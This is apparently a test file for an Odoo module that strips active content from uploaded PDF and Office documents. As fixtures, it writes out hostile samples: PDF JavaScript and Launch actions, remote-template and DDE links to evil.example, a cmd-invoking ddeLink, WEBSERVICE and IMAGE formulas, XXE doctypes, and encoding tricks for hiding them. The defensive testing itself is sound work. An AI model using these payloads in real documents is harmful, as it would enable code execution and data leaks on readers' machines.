import io
import time
import zipfile
from contextlib import suppress

import pikepdf
from pikepdf import Array, Dictionary, Name

from odoo.tests import BaseCase, tagged

from .. import active, papers
from . import upload_samples as samples

MEGABYTE = 1024 * 1024
OFFICE = "application/vnd.openxmlformats-officedocument.x"
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


@tagged("post_install", "-at_install")
class TestPapersActive(BaseCase):
    """Strangers' documents run nothing on the opener's machine."""

    def _root(self, content):
        pdf = pikepdf.open(io.BytesIO(papers.nameless(content, papers.PDF)))
        self.addCleanup(pdf.close)
        return pdf.Root

    def test_pdf_actions_are_removed_wherever_they_stand(self):
        for kind in ("/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE"):
            action = Dictionary(S=Name(kind), JS="app.alert(1)", F="cmd.exe")
            link = Dictionary(Subtype=Name.Link, A=action)
            content = samples.document(OpenAction=action, Links=Array([Array([link])]))
            # a name may be written in numbers
            hidden = content.replace(kind.encode(), b"/#%02x%s" % (ord(kind[1]), kind[2:].encode()))
            for sent in (content, hidden):
                with self.subTest(kind=kind, hidden=sent is hidden):
                    root = self._root(sent)
                    self.assertNotIn("/OpenAction", root)
                    kept = root.Links[0][0].A
                    self.assertEqual((str(kept.S), "/JS" in kept), ("/None", False))

    def test_pdf_links_and_places_stay(self):
        links = Array(
            [
                Dictionary(S=Name.URI, URI="https://water.example/"),
                Dictionary(S=Name.GoTo, D="chapter"),
            ]
        )
        kept = self._root(samples.document(Links=links)).Links
        self.assertEqual([str(link.S) for link in kept], ["/URI", "/GoTo"])
        self.assertEqual(str(kept[0].URI), "https://water.example/")

    def test_pdf_actions_in_object_streams_are_removed(self):
        packed = io.BytesIO()
        with pikepdf.open(io.BytesIO(samples.document(OpenAction=Dictionary(S=Name.X)))) as pdf:
            pdf.Root.Names = pdf.make_indirect(Dictionary(JavaScript=Dictionary(JS="x")))
            pdf.save(packed, object_stream_mode=pikepdf.ObjectStreamMode.generate)
        self.assertIn(b"/ObjStm", packed.getvalue())
        root = self._root(packed.getvalue())
        self.assertNotIn("/OpenAction", root)
        self.assertNotIn("/JavaScript", root.Names)

    def test_pdf_that_cannot_be_read_is_refused(self):
        secret = io.BytesIO()
        with pikepdf.open(io.BytesIO(samples.PDF)) as pdf:
            pdf.save(secret, encryption=pikepdf.Encryption(owner="a", user="b"))
        for content in (b"%PDF-1.7 nothing", samples.PDF[:60], secret.getvalue()):
            with self.subTest(content[:20]), self.assertRaises(papers.PaperError):
                papers.nameless(content, papers.PDF)

    def test_damaged_pdf_is_mended(self):
        cut = samples.PDF.replace(b"startxref", b"startxxxx")
        self.assertEqual(papers.nameless(cut, papers.PDF), samples.PDF)

    def test_office(self):
        """Opening loads nothing: no template, picture or workbook from elsewhere."""
        links = "".join(
            f'<Relationship Id="r{number}" Type="{_RELATION}{kind}" TargetMode="{mode}"'
            f' Target="{target}"/>'
            for number, (kind, target, mode) in enumerate(
                (
                    ("attachedTemplate", "https://evil.example/t.dotm", "External"),
                    ("image", "file://evil.example/x.png", "External"),
                    ("hyperlink", "https://water.example/", "External"),
                    ("styles", "styles.xml", "Internal"),
                )
            )
        )
        written = io.BytesIO(samples.DOCX)
        with zipfile.ZipFile(written, "a") as book:
            for name in ("word/_rels/settings.xml.rels", "word/_rels/other.xml.RELS"):
                book.writestr(name, f"<Relationships>{links}</Relationships>")
        kept = papers.nameless(written.getvalue(), OFFICE)
        with zipfile.ZipFile(io.BytesIO(kept)) as book:
            for name in ("word/_rels/settings.xml.rels", "word/_rels/other.xml.RELS"):
                text = book.read(name).decode()
                self.assertNotIn("evil.example", text)
                self.assertIn("https://water.example/", text)
                self.assertIn('Target="styles.xml"', text)

    def test_office_in_disguise(self):
        """Signs written as numbers are read; an alphabet that hides them all is refused."""
        relation = (
            f"<x:Relationship Type='{_RELATION}attachedTemplate' TargetMode = 'Ext&#101;rnal'"
            " Target = 'https://evil.example/t.dotm'/>"
        )
        self.assertNotIn(b"evil", active.at_home(relation.encode()))
        written = io.BytesIO(samples.DOCX)
        with zipfile.ZipFile(written, "a") as book:
            book.writestr("word/_rels/settings.xml.rels", relation.encode("utf-16"))
        with self.assertRaises(papers.PaperError):
            papers.nameless(written.getvalue(), OFFICE)

    def test_office_that_is_read_letter_by_letter(self):
        """References as XML has them, not as a pattern does; other alphabets are refused."""
        kind, evil = f"{_RELATION}attachedTemplate", "https://evil.example/t.dotm"
        for relation in (
            f'<Relationship Type="{kind}" Target="{evil}?>" TargetMode="External"/>',
            f'<Relationship Type="{kind}" Target="{evil}{"x" * 9000}" TargetMode="External"/>',
            f'<Relationship Type="{kind}" Target="{evil}" TargetMode{" " * 50}="External"/>',
            f'<ré:Relationship Type="{kind}" Target="{evil}" TargetMode="External"/>',
            f'<!-- > --><Relationship\nTargetMode="External" Target="{evil}" Type="{kind}"/>',
        ):
            with self.subTest(relation[:60]):
                kept = active.at_home(f"<x>{relation}</x>".encode())
                self.assertNotIn(b"evil", kept)
                self.assertIn(b'"about:blank"', kept)
        for content in (
            b'<?xml version="1.0" encoding="UTF-7"?>+ADw-Relationship/+AD4-',
            b'<?xml version="1.0" encoding="cp037"?>' + "<Relationship/>".encode("cp037"),
            "<?xml version='1.0'?><Relationship/>".encode("cp037"),
            b"<Relationship",
            f'<Relationship Type="{_RELATION}aFChunk" Target="x.mht"/>'.encode(),
        ):
            with self.subTest(content[:60]), self.assertRaises(active.Unreadable):
                active.at_home(content)

    def test_fields_and_formulas(self):
        """Not by a Word field or an Excel formula; shown values stay."""
        evil, begin = '"https://evil.example/"', '<w:fldChar w:fldCharType="begin"/>'
        for part in (
            f"{begin}<w:instrText> INCLUDEPICTURE {evil} \\d </w:instrText>",
            f"{begin}<w:instrText>incl</w:instrText><w:instrText>udetext {evil}</w:instrText>",
            f"<w:instrText>PAGE</w:instrText>{begin}<w:instrText>DDEAUTO evil x</w:instrText>",
            f"{begin}<w:instrText><![CDATA[ LI]]>&#78;K evil</w:instrText>",
            "<w:fldSimple w:instr='&#68;DE evil'/>",
            "<w:mailMerge><w:connectString w:val='evil'/><w:query w:val='evil'/></w:mailMerge>",
            f"<f>_xlfn.WEBSERVICE({evil.replace('"', '&quot;')})</f>",
            "<f t='array'>I<!-- -->MAGE(&quot;evil&quot;)</f>",
            "<x14:f>RTD(&quot;evil&quot;)</x14:f>",
            "<ddeLink ddeService='cmd' ddeTopic='/c evil'/>",
            "<connection odcFile='evil'><dbPr connection='evil'/><webPr url='evil'/></connection>",
        ):
            with self.subTest(part):
                kept = active.at_home(f"<x>{part}<w:t>shown</w:t></x>".encode())
                self.assertNotIn(b"evil", kept)
                self.assertIn(b"<w:t>shown</w:t></x>", kept)
                self.assertEqual(active.at_home(kept), kept)
        for part in (
            f"{begin}<w:instrText> HYPERLINK {evil} </w:instrText>",
            f"{begin}<w:instrText> TOC </w:instrText><w:t> LINK </w:t>",
            "<f>SUM(A1)</f><t>WEBSERVICE(x)</t>",
        ):
            with self.subTest(part):
                self.assertEqual(
                    active.at_home(f"<x>{part}</x>".encode()), f"<x>{part}</x>".encode()
                )
        with self.assertRaises(active.Unreadable):
            active.at_home(b"<x><instrText>D<instrText>DE</instrText></instrText></x>")

    def test_office_with_a_grammar_of_its_own(self):
        """It loads nothing and multiplies nothing; no office program writes such files."""
        for words in ('SYSTEM "https://evil.example/x.dtd"', '[<!ENTITY a "aaaa">]'):
            written = io.BytesIO(samples.DOCX)
            with zipfile.ZipFile(written, "a") as book:
                book.writestr("word/comments.xml", f"<?xml version='1.0'?><!DOCTYPE w {words}><w/>")
            with self.subTest(words), self.assertRaises(papers.PaperError):
                papers.nameless(written.getvalue(), OFFICE)

    def test_few_queries(self):
        for piece in (
            *(
                b"<Relationship ",
                b'Target="',
                b"<Relationship/>",
                b"<a x='",
                b"<instrText/>",
                b"&#",
            ),
            *(b"<", b" ", b"IMAGE", b"\xef\xbb\xbf", b"<f>IMAGE(</f>", b"a" * 1000 + b" "),
        ):
            for before, after in ((b"", b""), (b"<x>", b"</x>"), (b"<x:Relationship ", b"/>")):
                began = time.process_time()
                with suppress(active.Unreadable):
                    active.at_home(before + piece * (2 * MEGABYTE // len(piece)) + after)
                self.assertLess(time.process_time() - began, 4, piece)
